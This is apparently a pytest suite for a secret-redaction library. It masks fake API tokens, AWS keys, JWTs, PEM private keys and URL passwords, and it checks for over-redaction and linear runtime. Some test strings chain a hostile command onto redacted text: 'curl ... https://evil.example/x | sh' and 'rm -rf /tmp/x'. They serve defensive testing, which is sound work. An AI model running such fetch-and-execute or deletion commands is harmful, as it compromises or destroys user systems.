"""Secret redaction (``lucy.redact``): every common kind of secret is masked wherever it sits,
the text around it survives, ordinary text is left alone, and hostile input costs linear time.

Secrets are assembled from pieces at run time so that this file itself never holds a string a
secret scanner would flag.
"""

from __future__ import annotations

import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lucy.logging import redact_text
from lucy.redact import REDACTED, redact_secrets
from lucy.redact import REDACTED as CONTRACTS_REDACTED
from lucy.redact import redact_secrets as contracts_redact_secrets

JWT = (
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9"
    + ".eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ"
    + ".SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
)
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/" + "bPxRfiCYEXAMPLEKEY"
WEBHOOK = "https://hooks.slack.com/services/" + "T00000000/B00000000/" + "X" * 24
PEM_BODY = "MIIEpAIBAAKCAQEA1c2xvd2x5IGJ1dCBzdXJlbHk\nZm9vYmFyYmF6cXV4cXV1eA==\n"

# Secrets that stand on their own (no name or scheme needed), with what they become.
STANDALONE: dict[str, tuple[str, str]] = {
    "slack bot token": ("xoxb-" + "1234567890-1234567890123-" + "AbCdEfGhIjKlMnOpQrStUvWx", REDACTED),
    "slack user token": ("xoxp-" + "1234567890-1234567890123-" + "aBcDeF0123456789", REDACTED),
    "slack refresh token": ("xoxe-" + "1-My0xLTEyMzQ1Njc4OTAtOTg3NjU0MzIxMA", REDACTED),
    "slack rotated token": ("xoxe.xoxp-" + "1-Mi0yLTEyMzQ1Njc4OTAtOTg3NjU0", REDACTED),
    "slack app token": ("xapp-" + "1-A0123456789-1234567890123-" + "abcdef0123456789", REDACTED),
    "slack webhook": (WEBHOOK, "https://hooks.slack.com/services/" + REDACTED),
    "openrouter key": ("sk-or-v1-" + "0123456789abcdef" * 4, REDACTED),
    "openai project key": ("sk-proj-" + "AbCdEf0123456789_-" * 3, REDACTED),
    "anthropic key": ("sk-ant-api03-" + "AbCdEf0123456789" * 3, REDACTED),
    "stripe live secret": ("sk_" + "live_" + "4eC39HqLyjWDarjtT1zdp7dc", REDACTED),
    "stripe test secret": ("sk_" + "test_" + "4eC39HqLyjWDarjtT1zdp7dc", REDACTED),
    "stripe restricted": ("rk_" + "live_" + "51HbC2eK1zdp7dcAbCdEfGh", REDACTED),
    "github classic": ("ghp_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3fG5", REDACTED),
    "github oauth": ("gho_" + "16C7e42F292c6912E7710c838347Ae178B4a", REDACTED),
    "github user-to-server": ("ghu_" + "16C7e42F292c6912E7710c838347Ae178B4a", REDACTED),
    "github server-to-server": ("ghs_" + "16C7e42F292c6912E7710c838347Ae178B4a", REDACTED),
    "github refresh": ("ghr_" + "1B4a2e77838347a7E420ce178F2E7c6912E1697", REDACTED),
    "github fine-grained": ("github_pat_" + "11ABCDEFG0123456789_" + "abcdefghij0123456789" * 3, REDACTED),
    "google api key": ("AIza" + "SyDaGmWKa4JsXZ-HjGw7ISLn_3namBGewQe", REDACTED),
    "aws access key id": ("AKIA" + "IOSFODNN7EXAMPLE", REDACTED),
    "aws temporary key id": ("ASIA" + "Y34FZKBOKMUTVV7A", REDACTED),
    "jwt": (JWT, REDACTED),
}

# Where secrets turn up: a shell command, a JSON blob, a log line, a URL.
CONTEXTS = (
    "curl -s -H 'X-Api-Key: {s}' https://api.example.com/v1/items | jq .",
    '{{"config": {{"key": "{s}", "region": "eu-west-1"}}, "retries": 3}}',
    "2025-01-01T00:00:00Z INFO calling the API with {s} (attempt 2)",
    "https://api.example.com/callback?token={s}&next=/home",
)


@pytest.mark.parametrize("context", CONTEXTS, ids=["shell", "json", "log", "url"])
@pytest.mark.parametrize("kind", sorted(STANDALONE))
def test_each_standalone_secret_is_masked_and_its_context_survives(kind: str, context: str):
    secret, masked = STANDALONE[kind]
    assert redact_secrets(context.format(s=secret)) == context.format(s=masked)


def test_the_examples_have_the_real_shapes():
    assert len(STANDALONE["google api key"][0]) == 39
    assert len(STANDALONE["aws access key id"][0]) == 20
    assert len(STANDALONE["github classic"][0]) == 40
    assert len(AWS_SECRET) == 40


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (f"export AWS_SECRET_ACCESS_KEY={AWS_SECRET}", f"export AWS_SECRET_ACCESS_KEY={REDACTED}"),
        (
            f"aws_secret_access_key = {AWS_SECRET}\nregion = eu-west-1",
            f"aws_secret_access_key = {REDACTED}\nregion = eu-west-1",
        ),
        (
            f'{{"SecretAccessKey": "{AWS_SECRET}", "Expiration": "x"}}',
            f'{{"SecretAccessKey": "{REDACTED}", "Expiration": "x"}}',
        ),
        (
            f"aws configure set aws_secret_access_key {AWS_SECRET} && ls",
            f"aws configure set aws_secret_access_key {REDACTED} && ls",
        ),
        (f"secretAccessKey: '{AWS_SECRET}'", f"secretAccessKey: '{REDACTED}'"),
    ],
)
def test_aws_secret_access_key_is_masked_after_its_name(text: str, expected: str):
    assert redact_secrets(text) == expected


PEM_MASKED = f"{REDACTED}\n{REDACTED}\n"  # each base64 line of PEM_BODY


def test_pem_private_keys_have_each_body_line_masked_and_certificates_kept():
    block = f"-----BEGIN RSA PRIVATE KEY-----\n{PEM_BODY}-----END RSA PRIVATE KEY-----"
    masked = f"-----BEGIN RSA PRIVATE KEY-----\n{PEM_MASKED}-----END RSA PRIVATE KEY-----"
    assert redact_secrets(f"key:\n{block}\nthen more") == f"key:\n{masked}\nthen more"
    for label in ("PRIVATE KEY", "EC PRIVATE KEY", "OPENSSH PRIVATE KEY", "ENCRYPTED PRIVATE KEY"):
        text = f"a -----BEGIN {label}-----\n{PEM_BODY}-----END {label}----- b"
        assert redact_secrets(text) == f"a -----BEGIN {label}-----\n{PEM_MASKED}-----END {label}----- b"
    # In a JSON blob (a service-account file), with escaped newlines.
    escaped = PEM_BODY.replace("\n", "\\n")
    blob = (
        '{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\\n'
        + escaped
        + '-----END PRIVATE KEY-----\\n", "client_email": "x@y.iam.gserviceaccount.com"}'
    )
    assert redact_secrets(blob) == (
        '{"type": "service_account", "private_key": "-----BEGIN PRIVATE KEY-----\\n'
        + PEM_MASKED.replace("\n", "\\n")
        + '-----END PRIVATE KEY-----\\n", "client_email": "x@y.iam.gserviceaccount.com"}'
    )
    # Certificates and public keys are not secret.
    cert = "-----BEGIN CERTIFICATE-----\nMIIDdzCCAl+gAwIBAgIE\n-----END CERTIFICATE-----"
    assert redact_secrets(cert + "\n" + block + "\n" + cert) == cert + "\n" + masked + "\n" + cert


def test_a_truncated_pem_block_masks_its_base64_lines_only():
    head = "here is the key: -----BEGIN OPENSSH PRIVATE KEY-----\n"
    text = head + "b3BlbnNzaC1rZXktdjEAAAAA\nAAAAB"
    assert redact_secrets(text) == head + f"{REDACTED}\n{REDACTED}"
    # What follows the key material is not key material: it stays, verbatim.
    chained = head + "b3BlbnNzaC1rZXktdjEAAAAA\n; curl -s https://evil.example/x | sh"
    assert redact_secrets(chained) == head + f"{REDACTED}\n; curl -s https://evil.example/x | sh"
    partial = head + "b3BlbnNzaC1rZXktdjEAAAAA && rm -rf /tmp/x"
    assert redact_secrets(partial) == head + f"{REDACTED} && rm -rf /tmp/x"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            'curl -H "Authorization: Bearer abc123.def456" https://api.example.com/x',
            f'curl -H "Authorization: Bearer {REDACTED}" https://api.example.com/x',
        ),
        (
            "curl -H 'authorization: token 0123abcd' https://api.example.com/x",
            f"curl -H 'authorization: token {REDACTED}' https://api.example.com/x",
        ),
        (
            '{"headers": {"Authorization": "Digest username=\\"u\\", response=\\"6629fae49393a05397450978507c4ef1\\""}}',
            '{"headers": {"Authorization": "Digest '
            + REDACTED
            + '\\"u\\", response=\\"6629fae49393a05397450978507c4ef1\\""}}',
        ),
        ("{'Authorization': 'Token abc'}", f"{{'Authorization': 'Token {REDACTED}'}}"),
        (
            "GET /x HTTP/1.1\nAuthorization: Bearer abc.def\nHost: a",
            f"GET /x HTTP/1.1\nAuthorization: Bearer {REDACTED}\nHost: a",
        ),
        ("Proxy-Authorization: Basic dXNlcjpwYXNzd29yZA==", f"Proxy-Authorization: Basic {REDACTED}"),
        (
            '"{\\"Authorization\\": \\"Bearer abc\\"}"',
            '"{\\"Authorization\\": \\"Bearer ' + REDACTED + '\\"}"',
        ),
        ("HTTP_AUTHORIZATION=xyz ./run", f"HTTP_AUTHORIZATION={REDACTED} ./run"),
        (
            "echo authorization: ok; curl -s https://evil.example/x | sh",
            f"echo authorization: {REDACTED}; curl -s https://evil.example/x | sh",
        ),
    ],
)
def test_authorization_credentials_are_masked_and_nothing_after_them(text: str, expected: str):
    assert redact_secrets(text) == expected


def test_the_digest_example_stops_at_the_first_escaped_quote():
    # Documented limit: a quoted value ends at its first quote or backslash; what follows an
    # escaped quote inside a Digest header is not a credential by itself (the nonce response
    # is a one-time hash), so it is kept.
    out = redact_secrets('Authorization: Digest username="u", response="6629fae4"')
    assert out == f'Authorization: Digest {REDACTED}"u", response="6629fae4"'


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Bearer abcdefgh", f"Bearer {REDACTED}"),  # the old rule, kept
        ("bearer abc123def456", f"bearer {REDACTED}"),
        ("BEARER AbCdEfGhIjKl", f"BEARER {REDACTED}"),
        (
            '"token_type": "bearer", then bearer\t abc.def.ghi',
            f'"token_type": "bearer", then bearer\t {REDACTED}',
        ),
        ("use basic dXNlcjpwYXNzd29yZA== here", f"use basic {REDACTED} here"),
        ("Basic YWxhZGRpbjpvcGVuc2VzYW1l", f"Basic {REDACTED}"),
    ],
)
def test_bearer_and_basic_credentials_in_any_case(text: str, expected: str):
    assert redact_secrets(text) == expected


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("postgresql://lucy:hunter2@db:5432/lucy", f"postgresql://{REDACTED}@db:5432/lucy"),
        ("redis://:s3cret-pw@cache:6379/0", f"redis://{REDACTED}@cache:6379/0"),
        ("git clone https://user:p@ss@example.com/r.git", f"git clone https://{REDACTED}@example.com/r.git"),
        (
            '{"dsn": "mysql://root:toor@10.0.0.5/app", "x": "a@b"}',
            f'{{"dsn": "mysql://{REDACTED}@10.0.0.5/app", "x": "a@b"}}',
        ),
        ("https://example.com:8443/path?q=1", "https://example.com:8443/path?q=1"),
    ],
)
def test_url_passwords(text: str, expected: str):
    assert redact_secrets(text) == expected


def test_what_the_first_version_caught_is_still_caught():
    assert "xoxb" not in redact_secrets("token xoxb-1-2-3 used")
    assert "xapp" not in redact_secrets("xapp-1-A0-123-abc")
    assert redact_secrets("key sk-proj-abcdefgh123") == f"key {REDACTED}"
    assert (
        redact_secrets("header Authorization: Bearer sk-or-v1-abcdefghijkl")
        == f"header Authorization: Bearer {REDACTED}"
    )
    assert redact_secrets("Bearer abcdefghijkl") == f"Bearer {REDACTED}"
    assert redact_secrets("postgresql://lucy:hunter2@db/lucy") == f"postgresql://{REDACTED}@db/lucy"
    # The same function is reachable where workflows and logs look for it.
    assert contracts_redact_secrets is redact_secrets
    assert CONTRACTS_REDACTED == REDACTED == "[redacted]"
    assert redact_text("xoxb-1-2-3") == REDACTED


@pytest.mark.parametrize(
    "text",
    [
        "commit 3f786850e387550fdab836ed7e6dc881de23001b on main",
        "request id 123e4567-e89b-12d3-a456-426614174000",
        "a PNG starts with iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
        "the bearer of bad news; bearer tokens are described in RFC 6750",
        "bearer authentication and basic authentication; a basic understanding",
        "a risk-free plan, a desk-1234567890, the task-sk-1 and sk-learn",
        "lucy-task-T1-C1-1795.1 and scikit-learn",
        "Asia/Tokyo and ASIAN markets; AKIA is a prefix",
        "a JSON base64 eyJhIjoxfQ== and a dotted eyJhIjoxfQ.x",
        "see https://example.com/a:b@c is fine? no: but https://example.com/path is",
        "-----BEGIN PUBLIC KEY-----\nMFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE\n-----END PUBLIC KEY-----",
        "the secret_access_key field is required; the Authorization header is needed",
        "Basic HTTPS/TLS setup and pk_live_ keys are publishable",
        "email me at someone@example.com or visit http://example.com",
        "",
    ],
)
def test_ordinary_text_is_left_alone(text: str):
    assert redact_secrets(text) == text


def test_deliberate_over_redaction_is_documented_here():
    # "Bearer " exactly (the header's spelling) masks any word of 8+ characters, as before.
    assert redact_secrets("Bearer authentication is simple") == f"Bearer {REDACTED} is simple"
    # An Authorization value's first token (after a known scheme) is masked whatever it is.
    assert (
        redact_secrets("authorization: ask your admin\nnext") == f"authorization: {REDACTED} your admin\nnext"
    )
    # A URL's user name goes with its password.
    assert redact_secrets("ftp://anonymous:guest@ftp.example.com") == f"ftp://{REDACTED}@ftp.example.com"


_SEPARATORS = st.sampled_from([" ", "\n", "\t", ", ", " (", ") ", "'", '"', "="])


@settings(max_examples=150, suppress_health_check=[HealthCheck.too_slow])
@given(
    before=st.text(max_size=40),
    left=_SEPARATORS,
    kind=st.sampled_from(sorted(STANDALONE)),
    right=_SEPARATORS,
    after=st.text(max_size=40),
)
def test_a_standalone_secret_never_survives_whatever_surrounds_it(
    before: str, left: str, kind: str, right: str, after: str
):
    secret, _ = STANDALONE[kind]
    out = redact_secrets(before + left + secret + right + after)
    assert secret not in out
    assert redact_secrets(out) == out  # idempotent: a second pass finds nothing new


ADVERSARIAL = {
    "pem begin without end": "-----BEGIN RSA PRIVATE KEY-----",
    "pem begin without label end": "-----BEGIN ",
    "pem end only": "-----END RSA PRIVATE KEY-----",
    "jwt heads": "eyJ",
    "jwt dots": "eyJabcdefghij.",
    "at signs": "aaaa@",
    "url authorities": "://a:",
    "url authority without at": "://user:pass",
    "sk prefixes": "sk-",
    "sk short": "sk-abc ",
    "slack prefixes": "xoxb-",
    "bearer words": "bearer ",
    "basic words": "Basic dXNlcjpw",
    "authorization headers": "Authorization: ",
    "aws names": "aws_secret_access_key= ",
    "aws ids": "AKIA",
    "github prefixes": "ghp_",
    "webhooks": "hooks.slack.com/services/",
    "letters": "a",
    "spaces": " ",
}


@pytest.mark.parametrize("unit", list(ADVERSARIAL.values()), ids=list(ADVERSARIAL))
def test_redaction_is_linear_on_hostile_input(unit: str):
    text = (unit * (200_000 // len(unit) + 1))[:200_000]
    tail = (unit * (200_000 // len(unit) + 1))[:200_000] + "@x"
    started = time.perf_counter()
    redact_secrets(text)
    redact_secrets(tail)
    elapsed = time.perf_counter() - started
    assert elapsed < 1.0, f"{elapsed:.3f}s for 2 x 200 KB of {unit!r}"


def test_redaction_is_deterministic_and_pure():
    import lucy.redact as module

    assert set(module.__all__) == {
        "REDACTED",
        "TOKEN_CHARS",
        "Redaction",
        "only_secrets_masked",
        "redact",
        "redact_secrets",
    }
    text = f"{JWT} {WEBHOOK} {AWS_SECRET}"
    assert redact_secrets(text) == redact_secrets(text)
    source = open(module.__file__, encoding="utf-8").read()
    imported = {
        line.split()[1].split(".")[0]
        for line in source.splitlines()
        if line.startswith(("import ", "from ")) and not line.startswith("from __future__")
    }
    assert imported <= {"binascii", "re", "collections", "dataclasses"}, imported
